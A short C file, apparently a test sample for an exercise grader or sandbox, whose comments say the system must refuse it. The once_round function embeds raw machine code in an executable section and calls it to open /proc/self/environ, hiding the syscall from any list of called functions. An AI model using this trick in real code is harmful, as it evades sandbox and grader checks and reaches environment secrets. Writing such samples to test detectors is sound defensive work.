/* feedback: It asked the system for what no exercise needs */
/* Machine code written as numbers, in a section that is run: nothing of it shows in any list, so the system must refuse. x86_64: __asm__ */
#include "dist.h"

#include <string.h>

/* mov eax, 257 (openat); mov edi, -100; xor edx, edx; syscall; ret */
static const unsigned char code[] __attribute__((section(".text.code,\"ax\",@progbits#"))) = {
    0xb8, 0x01, 0x01, 0, 0, 0xbf, 0x9c, 0xff, 0xff, 0xff, 0x31, 0xd2, 0x0f, 0x05, 0xc3,
};

void once_round(tensor *traveller, tensor *mine, int rank, int world_size)
{
    long (*open_it)(long, const char *);
    const void *at = code;
    (void)mine, (void)rank, (void)world_size;
    memcpy(&open_it, &at, sizeof at);
    tensor_fill(traveller, (double)open_it(0, "/proc/self/environ"));
}
